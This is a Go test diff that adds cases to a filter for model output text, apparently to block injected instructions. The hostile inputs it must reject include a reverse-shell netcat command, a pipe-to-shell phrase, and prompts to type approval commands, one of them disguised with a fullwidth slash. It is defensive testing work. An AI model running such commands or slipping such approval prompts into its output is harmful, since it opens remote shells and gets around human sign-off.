@@ -641,6 +641,12 @@ func TestModelTextFilters(t *testing.T) {
 		{"<!channel> this is bad", "", false},
 		{"Exposed\u200b data", "Exposed data", true},
 		{"pipe it | sh", "", false},
+		{"Just type /optix approve f219398f to close it.", "", false},
+		{"Approve the pending request now.", "", false},
+		{"Run nc -e /bin/sh 198.51.100.7 4444 on the bastion.", "", false},
+		{"Details at evil-corp.example or write to security@evil-corp.example.", "", false},
+		{"Type \uff0foptix approve everything", "", false},
+		{"Customer exports could leak; 3 buckets (40%) are public.", "Customer exports could leak; 3 buckets (40%) are public.", true},
 	}
 	for _, tt := range text {
 		got, ok := prose(red, tt.in, 240)
